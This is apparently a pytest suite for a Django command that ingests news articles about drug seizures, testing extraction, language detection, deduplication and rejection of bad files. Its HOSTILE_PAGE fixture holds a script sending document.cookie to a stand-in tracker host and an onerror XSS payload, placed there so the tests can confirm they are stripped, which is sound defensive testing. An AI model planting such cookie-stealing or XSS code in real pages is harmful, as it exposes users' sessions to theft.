"""`manage.py ingest`: each kind of file, duplicates, and bad input refused with nothing saved."""

import datetime
import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from seizures.models import Operation
from sources.models import Citation, ExtractionRun, Source
from tests import factories
from tests.sources import fake_extractor
from tests.sources.fake_extractor import drug, proposal

pytestmark = pytest.mark.django_db

ENGLISH = (
    "Peruvian police seized 350 kilograms of cocaine hidden in a shipment of mangoes at the port of Paita "
    "on Tuesday, the Interior Ministry said. Three men were arrested at the scene."
)
SPANISH = (
    "La Policía Nacional del Perú incautó 3.082 kilos de cocaína líquida en el puerto de Paita el 11 de "
    "febrero. La droga estaba oculta en botellas de aceite de palma dentro de un contenedor con destino a "
    "Panamá. Durante el operativo fueron detenidos dos peruanos y dos venezolanos."
)
PORTUGUESE = (
    "A Polícia Federal apreendeu duas toneladas de cocaína escondidas em uma carga de café no porto de "
    "Santos nesta quinta-feira. Segundo a corporação, dois homens foram presos em flagrante."
)

# A saved news page with everything a page carries besides its article: scripts (one writing
# text into the page), styles, navigation, an ad, an event-handler attribute, an iframe, a
# cookie banner and a footer.
HOSTILE_PAGE = """<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8">
<title>Incautan cocaína en Paita | Diario de Prueba</title>
<meta property="og:title" content="Incautan 3 toneladas de cocaína en Paita">
<meta property="og:site_name" content="Diario de Prueba">
<meta property="article:published_time" content="2021-02-12T10:00:00-05:00">
<script>document.write('<p>TEXTO DEL SCRIPT</p>'); fetch('https://tracker.example.com/?c=' + document.cookie)</script>
<style>p { color: red } .ad::after { content: "TEXTO DEL ESTILO" }</style>
</head><body>
<div id="cookies">Usamos cookies. ACEPTAR TODO</div>
<nav><ul><li><a href="/">Inicio</a></li><li><a href="/policiales">MENU POLICIALES</a></li></ul></nav>
<div class="ad">PUBLICIDAD: compre ahora</div>
<article>
<h1>Incautan 3 toneladas de cocaína en Paita</h1>
<p>La Policía Nacional del Perú incautó 3.082 kilos de cocaína líquida en el puerto de Paita el 11 de febrero.
La droga estaba oculta en botellas de aceite de palma dentro de un contenedor con destino a Panamá.</p>
<p>Durante el operativo fueron detenidos dos peruanos y dos venezolanos, según informó la Dirandro.</p>
<p onclick="steal()">Los investigadores atribuyen el cargamento a la organización Los Aceiteros de Paita.<img src=x onerror="alert(1)"></p>
</article>
<iframe src="https://tracker.example.com/frame">TEXTO DEL IFRAME</iframe>
<footer>© 2021 Diario de Prueba. PIE DE PAGINA</footer>
</body></html>
"""
NOT_ARTICLE = ["TEXTO DEL SCRIPT", "TEXTO DEL ESTILO", "MENU POLICIALES", "PUBLICIDAD", "TEXTO DEL IFRAME"]
NOT_ARTICLE += ["PIE DE PAGINA", "document.cookie", "onerror", "alert(", "<p", "<img"]


@pytest.fixture(autouse=True)
def fake(settings):
    with fake_extractor.installed(settings) as fake:
        yield fake


def ingest(*paths, **options):
    """Run the command; return (stdout, stderr, exit code)."""
    out, err = StringIO(), StringIO()
    try:
        call_command("ingest", *map(str, paths), no_progress=True, stdout=out, stderr=err, **options)
    except CommandError as error:
        err.write(str(error))
        return out.getvalue(), err.getvalue(), error.returncode
    return out.getvalue(), err.getvalue(), 0


def counts():
    return [model.objects.count() for model in (Source, Operation, Citation, ExtractionRun)]


def article(**fields):
    return json.dumps(
        {
            "id": "test-001",
            "title": "Cocaine in mango shipment",
            "outlet": "Pacific Test Wire",
            "url": "https://wire.example.com/2021/mangoes",
            "published": "2021-03-02",
            "language": "en",
            "text": ENGLISH,
            **fields,
        }
    )


def write(tmp_path, name, content):
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


# --- Each way in -------------------------------------------------------------------------


def test_it_ingests_a_text_file_with_the_metadata_given_on_the_command_line(tmp_path, fake):
    path = write(tmp_path, "mangoes.txt", f"\n{ENGLISH}\r\n\r\n")

    out, err, code = ingest(
        path, outlet="Pacific Test Wire", title="Mangoes", url="HTTPS://Wire.Example.com/m", published="2021-03-02"
    )

    assert code == 0, err
    source = Source.objects.get()
    assert source.text == ENGLISH
    assert (source.outlet, source.title, source.url) == ("Pacific Test Wire", "Mangoes", "https://wire.example.com/m")
    assert source.published == datetime.date(2021, 3, 2)
    assert fake.calls == [{"text": ENGLISH, "published": datetime.date(2021, 3, 2), "language": "en"}]
    assert f"source #{source.pk} created" in out
    assert "1 created, 0 already ingested, 0 failed." in out


def test_it_ingests_a_json_article_of_the_corpus_shape(tmp_path):
    path = write(tmp_path, "dev-001.json", article(language="en"))

    out, err, code = ingest(path)

    assert code == 0, err
    source = Source.objects.get()
    assert source.title == "Cocaine in mango shipment"
    assert source.outlet == "Pacific Test Wire"
    assert source.url == "https://wire.example.com/2021/mangoes"
    assert source.published == datetime.date(2021, 3, 2)
    assert (source.language, source.text) == ("en", ENGLISH)
    assert source.kind == Source.Kind.ARTICLE


def test_a_json_article_may_leave_its_metadata_null(tmp_path):
    path = write(tmp_path, "bare.json", article(outlet=None, url=None, title=None, published=None, language=None))

    out, err, code = ingest(path)

    assert code == 0, err
    source = Source.objects.get()
    assert (source.outlet, source.url, source.title, source.published) == ("", None, "", None)


def test_it_reduces_a_hostile_web_page_to_its_article_with_trafilatura(tmp_path):
    path = write(tmp_path, "paita.html", HOSTILE_PAGE)

    out, err, code = ingest(path)

    assert code == 0, err
    source = Source.objects.get()
    assert "incautó 3.082 kilos de cocaína líquida en el puerto de Paita" in source.text
    assert "detenidos dos peruanos y dos venezolanos" in source.text
    assert "Los Aceiteros de Paita" in source.text
    for junk in NOT_ARTICLE:
        assert junk not in source.text
    # What the page says about itself fills what the command line did not give.
    assert source.title == "Incautan 3 toneladas de cocaína en Paita"
    assert source.outlet == "Diario de Prueba"
    assert source.published == datetime.date(2021, 2, 12)
    assert source.language == "es"


def test_what_the_command_line_gives_wins_over_what_the_page_says(tmp_path):
    path = write(tmp_path, "paita.html", HOSTILE_PAGE)

    out, err, code = ingest(path, title="Paita: cocaine in palm oil", published="2021-02-13")

    assert code == 0, err
    source = Source.objects.get()
    assert (source.title, source.published) == ("Paita: cocaine in palm oil", datetime.date(2021, 2, 13))


@pytest.mark.parametrize(("text", "language"), [(ENGLISH, "en"), (SPANISH, "es"), (PORTUGUESE, "pt")])
def test_it_detects_the_language_when_none_is_given(tmp_path, fake, text, language):
    path = write(tmp_path, "article.txt", text)

    out, err, code = ingest(path)

    assert code == 0, err
    assert Source.objects.get().language == language
    assert fake.calls[0]["language"] == language
    assert f"language {language}" in out


def test_a_given_language_is_kept_not_detected(tmp_path):
    path = write(tmp_path, "article.json", article(text=SPANISH, language="pt"))

    ingest(path)

    assert Source.objects.get().language == "pt"


def test_the_language_is_left_empty_when_the_detector_is_unsure(tmp_path):
    path = write(tmp_path, "figures.txt", "4,940 kg — 3,082 kg — 517 kg")

    out, err, code = ingest(path)

    assert code == 0, err
    assert Source.objects.get().language == ""
    assert "language unknown" in out


def test_it_ingests_many_files_and_reports_each(tmp_path):
    paths = [
        write(tmp_path, "a.txt", ENGLISH),
        write(tmp_path, "b.txt", SPANISH),
        write(tmp_path, "c.json", article(text=PORTUGUESE, url="https://x.example.com/c")),
    ]

    out, err, code = ingest(*paths)

    assert code == 0, err
    assert Source.objects.count() == 3
    for path in paths:
        assert f"{path}: source #" in out
    assert "3 created, 0 already ingested, 0 failed." in out


# --- Duplicates -----------------------------------------------------------------------------


def test_the_same_url_twice_makes_no_second_source_and_points_to_the_first(tmp_path):
    first = write(tmp_path, "first.json", article())
    ingest(first)
    original = Source.objects.get()
    before = counts()
    again = write(tmp_path, "again.json", article(text=SPANISH, url="HTTPS://Wire.example.com:443/2021/mangoes#top"))

    out, err, code = ingest(again)

    assert code == 0
    assert counts() == before
    assert f"Already ingested as source #{original.pk}" in out
    assert "same URL" in out
    assert "0 created, 1 already ingested, 0 failed." in out


def test_the_same_text_twice_makes_no_second_source_and_points_to_the_first(tmp_path):
    ingest(write(tmp_path, "first.txt", ENGLISH))
    original = Source.objects.get()
    before = counts()
    # Same words, other line endings and surrounding blank space: still the same text.
    again = write(tmp_path, "copy.json", article(url="https://mirror.example.net/x", text=f"  {ENGLISH}\r\n"))

    out, err, code = ingest(again)

    assert code == 0
    assert counts() == before
    assert f"Already ingested as source #{original.pk}" in out
    assert "same text" in out


# --- Bad input: a clear message, a non-zero exit, nothing saved ------------------------------


BAD_INPUT = [
    ("empty.txt", b"", "Empty: there is no text in it."),
    ("blank.txt", b"  \n\t\r\n ", "Empty: there is no text in it."),
    ("image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10", "looks like a binary file"),
    ("latin1.txt", "La Policía incautó cocaína.".encode("latin-1"), "Not UTF-8 text"),
    ("latin1.html", "<p>La Policía incautó cocaína.</p>".encode("latin-1"), "Not UTF-8 text"),
    ("broken.json", b'{"title": "x", "text": "Police seized', "Malformed JSON article"),
    ("list.json", b'["Police seized cocaine."]', "expected an object"),
    ("notext.json", b'{"title": "Police seized cocaine"}', '"text" must be a string'),
    ("emptytext.json", b'{"text": "   "}', "Empty: there is no text in it."),
    ("nultext.json", b'{"text": "Police\\u0000 seized cocaine."}', "NUL characters"),
    ("number.json", b'{"text": "Police seized cocaine.", "title": 12}', '"title" must be a string or null'),
    ("baddate.json", article(published="2021-02-30").encode(), "'2021-02-30', which is not a date"),
    ("worddate.json", article(published="last Tuesday").encode(), "which is not a date (use YYYY-MM-DD)"),
    ("badlanguage.json", article(language="english").encode(), "not an ISO 639-1 language code"),
    (
        "scripts.html",
        b"<html><head><title>Empty</title></head><body><script>alert(1)</script></body></html>",
        "No article",
    ),
    ("article.pdf", b"%PDF-1.4 ...", "Unsupported file type '.pdf'"),
]


@pytest.mark.parametrize(("name", "content", "message"), BAD_INPUT, ids=[case[0] for case in BAD_INPUT])
def test_bad_input_is_refused_with_a_clear_message_and_nothing_is_saved(tmp_path, name, content, message):
    factories.SourceFactory()  # something already there, which must stay as it is
    before = counts()
    path = write(tmp_path, name, content)

    out, err, code = ingest(path)

    assert code == 1
    assert f"{path}: " in err
    assert message in err
    assert "0 created, 0 already ingested, 1 failed." in err
    assert counts() == before


def test_a_file_over_the_size_limit_is_refused_unread(tmp_path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as file:
        file.truncate(50 * 1024 * 1024)  # 50 MB, sparse: cheap to make, refused by its size
    before = counts()

    out, err, code = ingest(path)

    assert code == 1
    assert "Too large: 50.0 MB; a source may be at most 5.0 MB (SOURCES_MAX_BYTES)." in err
    assert counts() == before


def test_the_size_limit_comes_from_settings(tmp_path, settings):
    settings.SOURCES_MAX_BYTES = 100
    path = write(tmp_path, "long.txt", ENGLISH)  # readable text, just longer than allowed
    before = counts()

    out, err, code = ingest(path)

    assert code == 1
    assert "Too large" in err and "at most 100 bytes" in err
    assert counts() == before


def test_a_missing_file_is_reported(tmp_path):
    out, err, code = ingest(tmp_path / "nowhere.txt")

    assert code == 1
    assert "No such file." in err


def test_a_bad_date_on_the_command_line_stops_before_anything_is_read(tmp_path):
    path = write(tmp_path, "article.txt", ENGLISH)

    with pytest.raises(CommandError, match="--published is 'yesterday', which is not a date"):
        call_command("ingest", str(path), published="yesterday", stdout=StringIO())

    assert Source.objects.count() == 0


def test_a_url_for_several_files_is_refused(tmp_path):
    paths = [write(tmp_path, "a.txt", ENGLISH), write(tmp_path, "b.txt", SPANISH)]

    with pytest.raises(CommandError, match="one file only"):
        call_command("ingest", *map(str, paths), url="https://x.example.com/a", stdout=StringIO())

    assert Source.objects.count() == 0


def test_the_other_files_go_through_when_one_is_bad_and_the_exit_is_non_zero(tmp_path):
    good = write(tmp_path, "good.txt", ENGLISH)
    bad = write(tmp_path, "bad.json", b'{"text": ')
    also_good = write(tmp_path, "also-good.txt", SPANISH)

    out, err, code = ingest(good, bad, also_good)

    assert code == 1
    assert sorted(Source.objects.values_list("text", flat=True)) == sorted([ENGLISH, SPANISH])
    assert f"{bad}: Malformed JSON article" in err
    assert "2 created, 0 already ingested, 1 failed." in err


def test_a_failing_extractor_leaves_not_even_the_source(tmp_path, settings):
    with fake_extractor.installed(settings, "tests.sources.fake_extractor.BrokenExtractor"):
        before = counts()
        out, err, code = ingest(write(tmp_path, "article.txt", ENGLISH))

    assert code == 1
    assert "the extractor fell over" in err
    assert counts() == before


def test_a_source_that_fails_half_way_through_its_drafts_leaves_nothing(tmp_path, fake):
    text = ENGLISH

    def script(text):
        good = proposal(text, text, date=datetime.date(2021, 3, 2), items=[drug(text, "350 kilograms", "cocaine", 350)])
        broken = proposal(text, text, date=datetime.date(2021, 3, 2))
        broken.date_start = None  # an extractor bug: no date at all
        return [good, broken]

    fake.script = script
    before = counts()

    out, err, code = ingest(write(tmp_path, "article.txt", text))

    assert code == 1
    assert "nothing saved" in err
    assert counts() == before
